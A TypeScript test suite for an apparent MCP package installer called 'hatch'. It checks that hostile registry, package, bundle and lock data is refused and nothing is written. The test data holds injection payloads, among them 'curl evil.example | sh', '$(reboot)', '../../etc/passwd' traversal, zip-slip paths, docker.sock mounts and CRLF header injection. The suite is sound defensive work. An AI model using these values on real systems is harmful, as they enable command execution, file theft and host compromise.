// Registries, packages and locks that lie: nothing of what they say becomes an argument, a path or a line of its own.

import { test } from 'uvu';
import * as assert from 'uvu/assert';
import type { Json, JsonObject } from '../../src/model/json.ts';
import { memorySystem } from '../../src/system/memory.ts';
import { hatch, type Placed } from '../support/cli.ts';
import { type Answer, encode, packument, registryPages, web } from '../support/web.ts';
import { zip } from '../support/zip.ts';

const manifestPath = '/home/ada/work/hatch.mcp.yaml';
const manifest = 'version: 1\nname: acme-tools\nenvironments:\n  main:\n    servers: {}\ntargets: { cursor: {} }\n';
const host = 'registry.modelcontextprotocol.io';
const name = 'io.github.acme/kiln';

const honest: JsonObject = {
  registryType: 'npm',
  identifier: '@acme/kiln',
  version: '1.0.0',
  transport: { type: 'stdio' },
};
const npm = { 'registry.npmjs.org/@acme%2fkiln': packument('@acme/kiln', ['1.0.0']) };

function machine(files: Readonly<Record<string, string>> = {}) {
  return memorySystem(
    { [manifestPath]: manifest, '/home/ada/.cursor/mcp.json': '{}\n', ...files },
    { cwd: '/home/ada/work', env: { HATCH_MANIFEST: manifestPath } },
  );
}

/** What `package add` of a package that its registry describes so comes to. */
async function adding(server: JsonObject, pages: Parameters<typeof web>[0] = npm) {
  const system = machine();
  const before = system.tree();
  const network = web({
    ...pages,
    ...registryPages(host, [{ name, description: 'Fires pots', version: '1.0.0', ...server }]),
  });
  const shown = await hatch({ ...system, network } as Placed, ['package', 'add', name]);
  return { ...shown, network, system, isUntouched: JSON.stringify(system.tree()) === JSON.stringify(before) };
}

const withPackage = (more: JsonObject): JsonObject => ({ packages: [{ ...honest, ...more }] });
const withArgument = (argument: JsonObject): JsonObject => withPackage({ packageArguments: [argument] });

const lies: readonly (readonly [says: string, server: JsonObject])[] = [
  ['an identifier that is a flag', withPackage({ identifier: '-rf' })],
  ['an identifier that is a flag of npx', withPackage({ identifier: '--call=sh' })],
  ['an identifier with a newline', withPackage({ identifier: '@acme/kiln\n--call' })],
  ['an identifier that climbs', withPackage({ identifier: '../../etc/passwd' })],
  ['an identifier that is an address', withPackage({ identifier: 'https://evil.example/x.tgz' })],
  ['an identifier that is a git repository', withPackage({ identifier: 'github:evil/x' })],
  ['an alias for another package', withPackage({ identifier: 'kiln@npm:evil' })],
  ['a version that is a flag', withPackage({ version: '--ignore-scripts=false' })],
  ['a version that is an address', withPackage({ version: 'https://evil.example/x.tgz' })],
  ['no version', withPackage({ version: 'latest' })],
  ['another npm registry', withPackage({ registryBaseUrl: 'https://evil.example' })],
  [
    'an option of npx that runs a line',
    withPackage({ runtimeArguments: [{ type: 'named', name: '--call', value: 'curl evil.example | sh' }] }),
  ],
  [
    'an option of npx that adds a package',
    withPackage({ runtimeArguments: [{ type: 'positional', value: '--package=evil' }] }),
  ],
  ['a flag that is no flag', withArgument({ type: 'named', name: '$(reboot)', value: 'x' })],
  ['an argument with a newline', withArgument({ type: 'positional', value: 'a\nb' })],
  ['an argument with a NUL', withArgument({ type: 'positional', value: 'a\u0000b' })],
  ['an argument without end', withArgument({ type: 'positional', value: 'a'.repeat(100_000) })],
  ['an argument that is no text', withArgument({ type: 'positional', value: 7 })],
  ['a variable with `=` in its name', withPackage({ environmentVariables: [{ name: 'A=B', value: 'c' }] })],
  [
    'a variable called __proto__ with a newline',
    withPackage({ environmentVariables: [{ name: 'PA\nTH', value: 'c' }] }),
  ],
  [
    'a privileged container',
    {
      packages: [
        {
          ...honest,
          registryType: 'oci',
          identifier: 'acme/kiln:1',
          runtimeArguments: [{ type: 'named', name: '--privileged', value: '' }],
        },
      ],
    },
  ],
  [
    'a container that mounts the machine',
    {
      packages: [
        {
          ...honest,
          registryType: 'oci',
          identifier: 'acme/kiln:1',
          runtimeArguments: [{ type: 'named', name: '-v', value: '/:/host' }],
        },
      ],
    },
  ],
  [
    'a container that rules the daemon',
    {
      packages: [
        {
          ...honest,
          registryType: 'oci',
          identifier: 'acme/kiln:1',
          runtimeArguments: [{ type: 'named', name: '--mount', value: 'type=bind,src=/var/run/docker.sock,dst=/s' }],
        },
      ],
    },
  ],
  ['an image that is a flag', { packages: [{ ...honest, registryType: 'oci', identifier: '--privileged' }] }],
  ['an image with a blank', { packages: [{ ...honest, registryType: 'oci', identifier: 'acme/kiln sh' }] }],
  ['an address that is no https', { remotes: [{ type: 'sse', url: 'http://evil.example/mcp' }] }],
  ['an address that is a file', { remotes: [{ type: 'sse', url: 'file:///etc/passwd' }] }],
  ['an address that is a script', { remotes: [{ type: 'sse', url: 'javascript:alert(1)' }] }],
  [
    'a header with a newline',
    { remotes: [{ type: 'sse', url: 'https://a.example', headers: [{ name: 'X', value: 'a\r\nEvil: b' }] }] },
  ],
  [
    'a header whose name is none',
    { remotes: [{ type: 'sse', url: 'https://a.example', headers: [{ name: 'X: y', value: 'a' }] }] },
  ],
  ['nothing at all', {}],
  ['a kind of package that is unknown', withPackage({ registryType: 'cargo' })],
];

for (const [says, server] of lies) {
  test(`a registry that gives ${says} is refused, and nothing is written`, async () => {
    const { code, stderr, isUntouched } = await adding(server);
    assert.is(code, 5, stderr);
    assert.ok(isUntouched);
    // biome-ignore lint/suspicious/noControlCharactersInRegex: none of them may reach a terminal
    assert.not.match(stderr, /[\u0000-\u0009\u000b-\u001a\u001c-\u001f]/);
    assert.ok(stderr.length < 1500);
  });
}

test('what would be a reference in a manifest is plain text when a package says it', async () => {
  const { code, stderr, system } = await adding(
    withPackage({
      packageArguments: [
        { type: 'positional', value: '${env:AWS_SECRET_ACCESS_KEY}' },
        { type: 'positional', value: '${input:*}' },
      ],
      environmentVariables: [
        { name: 'A', value: '${file:/etc/passwd}' },
        { name: 'B', default: '${home}', description: '${env:X}' },
      ],
    }),
  );
  assert.is(code, 0, stderr);
  const env = { ...system.surroundings.env, AWS_SECRET_ACCESS_KEY: 'AKIAmustnotappear' };
  const { stdout } = await hatch({ ...system, surroundings: { ...system.surroundings, env } } as Placed, ['plan']);
  assert.not.match(stdout, 'AKIA');
  assert.not.match(stdout, '/home/ada"');
  assert.match(stdout, 'AWS_SECRET_ACCESS_KEY');
});

test('descriptions are one line of plain text, however they were written', async () => {
  const { code, system, stdout } = await adding({ ...withPackage({}), description: 'Fires\npots\u001b[2J\u202e evil' });
  assert.is(code, 0);
  assert.match(system.tree()['/home/ada/work/hatch.mcp.lock.yaml'] ?? '', 'description: Fires pots [2J evil');
  assert.not.match(stdout, '\u001b[2J');
});

test('a registry answers for the name it was asked for, or not at all', async () => {
  const system = machine();
  const other = { server: { name: 'io.github.evil/kiln', description: 'x', version: '1.0.0', packages: [honest] } };
  const at = `${host}/v0.1/servers/${encodeURIComponent(name)}/versions`;
  const network = web({ ...npm, [`${at}/latest`]: other, [at]: { servers: [other] } });
  const { code, stderr } = await hatch({ ...system, network } as Placed, ['package', 'add', name]);
  assert.is(code, 1);
  assert.match(stderr, `no registry knows ${name}`);
});

test('a name of the first registry is never taken from the second', async () => {
  const text = `${manifest}registries: [https://own.example, https://other.example]\n`;
  const system = machine({ [manifestPath]: text });
  const own = { name, description: 'Ours', version: '1.0.0', packages: [honest] };
  const newer = { ...own, description: 'Theirs', version: '9.0.0' };
  const network = web({ ...npm, ...registryPages('own.example', [own]), ...registryPages('other.example', [newer]) });
  const { code } = await hatch({ ...system, network } as Placed, ['package', 'add', name]);
  assert.is(code, 0);
  assert.not.ok(network.asked.some((address) => address.includes('other.example')));
});

const answers: readonly (readonly [says: string, answer: Answer, code: number, message: string])[] = [
  ['a redirect to a file', { status: 302, headers: { location: 'file:///etc/passwd' } }, 5, 'redirects to it'],
  [
    'a redirect to less protection',
    { status: 302, headers: { location: 'http://evil.example/' } },
    5,
    'redirects to it',
  ],
  ['a redirect to itself', { status: 302, headers: { location: '/@acme%2fkiln' } }, 5, 'redirects too often'],
  [
    'a redirect with a password',
    { status: 301, headers: { location: 'https://a:b@evil.example/' } },
    5,
    'redirects to it',
  ],
  ['no JSON', new TextEncoder().encode('<html>welcome</html>'), 1, 'gave no JSON'],
  ['a number', encode(7), 1, 'gave no JSON object'],
  ['an error', { status: 503 }, 1, 'answered 503'],
  ['a wish for a login', { status: 401 }, 1, 'wants a login (401)'],
  ['megabytes without end', new Uint8Array(65_000_000), 1, 'more than 64000000 bytes'],
  [
    'a hash that is none',
    { versions: { '1.0.0': { dist: { integrity: 'sha512-$(reboot)' } } }, 'dist-tags': {} },
    5,
    'the integrity of npm:@acme/kiln',
  ],
  [
    'versions that are none',
    { versions: { 'evil && reboot': {}, '1.0.0\n': {} }, 'dist-tags': { latest: 'evil && reboot' } },
    1,
    'no version of npm:@acme/kiln',
  ],
];

for (const [says, answer, wanted, message] of answers) {
  test(`an npm registry that answers with ${says} ends the command, and nothing is written`, async () => {
    const { code, stderr, isUntouched } = await adding(withPackage({}), { 'registry.npmjs.org/@acme%2fkiln': answer });
    assert.is(code, wanted, stderr);
    assert.ok(stderr.includes(message), stderr);
    assert.ok(isUntouched);
  });
}

const manifestOfImage = new TextEncoder().encode('{ "schemaVersion": 2 }');
const images: readonly (readonly [says: string, answer: Answer, code: number])[] = [
  [
    'another digest than its manifest has',
    { status: 200, headers: { 'docker-content-digest': `sha256:${'0'.repeat(64)}` }, body: manifestOfImage },
    5,
  ],
  ['no manifest', new TextEncoder().encode('<html>welcome</html>'), 1],
  ['a list', encode([]), 5],
  ['no end', new Uint8Array(4_100_000), 1],
];

for (const [says, answer, wanted] of images) {
  test(`a registry of images that gives ${says} ends the command, and nothing is written`, async () => {
    const system = machine();
    const before = system.tree();
    const network = web({ 'images.example/v2/acme/kiln/manifests/1': answer });
    const { code, stderr } = await hatch({ ...system, network } as Placed, [
      'package',
      'add',
      'oci:images.example/acme/kiln:1',
    ]);
    assert.is(code, wanted, stderr);
    assert.equal(system.tree(), before);
  });
}

const folders: readonly (readonly [says: string, file: string, content: Json | string, code: number, at?: string])[] = [
  ['a bin outside of it', 'package.json', { name: 'kiln', bin: '../../../bin/sh' }, 5],
  ['an absolute bin', 'package.json', { name: 'kiln', bin: { kiln: '/bin/sh' } }, 5],
  ['a bin that is a flag', 'package.json', { name: 'kiln', bin: '--eval=1' }, 5, 'kiln/package.json:1:16: the entry'],
  ['several bins and none of its name', 'package.json', { name: 'kiln', bin: { a: 'a.js', b: 'b.js' } }, 1],
  ['no bin', 'package.json', { name: 'kiln' }, 1],
  ['broken JSON', 'package.json', '{ "name": ', 1, 'kiln/package.json:1:11: not valid JSON'],
  [
    'a script that is a flag',
    'pyproject.toml',
    '[project]\nname = "kiln"\n[project.scripts]\n"--with=evil" = "a:b"\n',
    5,
  ],
  [
    'an entry point outside of it',
    'hatch_metadata.json',
    { name: 'kiln', entry_point: { mcp_server: '/etc/passwd' } },
    5,
  ],
  ['a command with blanks', 'manifest.json', { server: { mcp_config: { command: 'sh -c reboot' } } }, 5],
  ['a command outside of it', 'manifest.json', { server: { mcp_config: { command: '${__dirname}/../../sh' } } }, 5],
  ['no command', 'manifest.json', { server: {} }, 5],
  [
    'a command outside of it on one platform',
    'manifest.json',
    { server: { mcp_config: { command: 'node', platform_overrides: { win32: { command: 'C:\\\\sh' } } } } },
    5,
  ],
];

for (const [says, file, content, wanted, place = ''] of folders) {
  test(`a folder whose ${file} has ${says} is refused, and nothing is written`, async () => {
    const system = machine({
      [`/home/ada/work/kiln/${file}`]: typeof content === 'string' ? content : JSON.stringify(content),
    });
    const before = system.tree();
    const { code, stderr } = await hatch(system, ['package', 'add', './kiln']);
    assert.is(code, wanted, stderr);
    assert.ok(stderr.includes(place), stderr);
    assert.equal(system.tree(), before);
  });
}

const manifestJson = JSON.stringify({ server: { mcp_config: { command: 'node' } } });
const bundles: readonly (readonly [says: string, members: Parameters<typeof zip>[0]])[] = [
  ['a path that climbs', [{ name: '../../.bashrc', text: 'reboot' }]],
  ['a path that climbs from inside', [{ name: 'a/../../x', text: 'reboot' }]],
  ['an absolute path', [{ name: '/etc/cron.d/x', text: 'reboot' }]],
  ['a drive', [{ name: 'C:/x', text: 'reboot' }]],
  ['backslashes', [{ name: '..\\..\\x', text: 'reboot' }]],
  ['a link', [{ name: 'server', text: '/etc', mode: 0o120777 }]],
  ['a device', [{ name: 'server', text: '', mode: 0o020666 }]],
  [
    'one file twice',
    [
      { name: 'a.js', text: 'x' },
      { name: 'A.js', text: 'y' },
    ],
  ],
  ['more than it says', [{ name: 'a.js', text: 'x'.repeat(10_000), size: 10 }]],
  ['half a gigabyte', [{ name: 'a.js', text: 'x', size: 600_000_000 }]],
  ['a name with a newline', [{ name: 'a\nb', text: 'x' }]],
];

for (const [says, members] of bundles) {
  test(`a bundle that holds ${says} is refused, and nothing is written`, async () => {
    const system = machine();
    system.put('/home/ada/work/kiln.mcpb', zip([{ name: 'manifest.json', text: manifestJson }, ...members]));
    const before = system.tree();
    const { code, stderr } = await hatch(system, ['package', 'add', 'mcpb:./kiln.mcpb']);
    assert.is(code, 5, stderr);
    assert.equal(system.tree(), before);
  });
}

for (const bytes of [new Uint8Array(), new TextEncoder().encode('no zip file at all, but long enough to be one')]) {
  test(`${bytes.length} bytes that are no bundle are refused`, async () => {
    const system = machine();
    system.put('/home/ada/work/kiln.mcpb', bytes);
    assert.is((await hatch(system, ['package', 'add', 'mcpb:./kiln.mcpb'])).code, 5);
  });
}

const lock = (entry: string) => `lockVersion: 1\npackages:\n${entry}`;
const locks: readonly (readonly [says: string, text: string])[] = [
  ['no YAML', 'lockVersion: [1'],
  ['the marks of a merge', `lockVersion: 1\n<<<<<<< ours\npackages: {}\n=======\npackages: {}\n>>>>>>> theirs\n`],
  ['no version that there is', 'lockVersion: "1"\npackages: {}\n'],
  ['a list', '- 1\n'],
  ['an entry that is a text', lock('  npm:a: b\n')],
  ['an entry without a server', lock('  npm:a: { source: x, resolved: y }\n')],
  [
    'an argument that is a map',
    lock('  npm:a: { source: x, resolved: y, server: { transport: stdio, command: a, args: [{ a: b }] } }\n'),
  ],
  [
    'a platform that is none',
    lock('  npm:a: { source: x, resolved: y, server: { transport: stdio, command: a, platforms: { beos: {} } } }\n'),
  ],
  [
    'an address for one platform',
    lock(
      '  npm:a: { source: x, resolved: y, server: { transport: stdio, command: a, platforms: { linux: { url: b } } } }\n',
    ),
  ],
  ['a server of two kinds', lock('  npm:a: { source: x, resolved: y, server: { transport: http, command: a } }\n')],
  [
    'an unknown key in a server',
    lock('  npm:a: { source: x, resolved: y, server: { transport: stdio, command: a, oauth: {} } }\n'),
  ],
  ['one entry twice', lock('  npm:a: {}\n  npm:a: {}\n')],
];

for (const [says, text] of locks) {
  test(`a lock that holds ${says} stops the plan, and says how to mend it`, async () => {
    const system = machine({
      [manifestPath]: manifest.replace('servers: {}', 'servers: { kiln: { package: "npm:a" } }'),
      '/home/ada/work/hatch.mcp.lock.yaml': text,
    });
    const { code, stderr } = await hatch(system, ['plan']);
    assert.is(code, 65, stderr);
    assert.match(stderr, 'hatch.mcp.lock.yaml cannot be read');
    assert.match(stderr, 'hatch package sync');
  });
}

test('a lock of a newer hatch is left as it is, and hatch is what is to be updated', async () => {
  const text = 'lockVersion: 2\npackages: {}\n';
  const system = machine({ '/home/ada/work/hatch.mcp.lock.yaml': text });
  for (const words of [
    ['package', 'sync'],
    ['package', 'update', '--auto-approve'],
    ['package', 'list'],
  ]) {
    const { code, stderr } = await hatch(system, words);
    assert.is(code, 65, stderr);
    assert.match(stderr, /was written by a newer hatch: its lockVersion is 2\n.*update hatch/);
  }
  assert.is(system.tree()['/home/ada/work/hatch.mcp.lock.yaml'], text);
});

test('the value that is given for an input is in no history and no message', async () => {
  const system = machine();
  const server = withPackage({ packageArguments: [{ type: 'positional', valueHint: 'room' }] });
  const network = web({ ...npm, ...registryPages(host, [{ name, description: 'x', version: '1.0.0', ...server }]) });
  await hatch({ ...system, network } as Placed, ['package', 'add', name, '--with', 'room=blue-velvet']);
  assert.not.match((await hatch(system, ['history'])).stdout, 'velvet');
});

test.run();
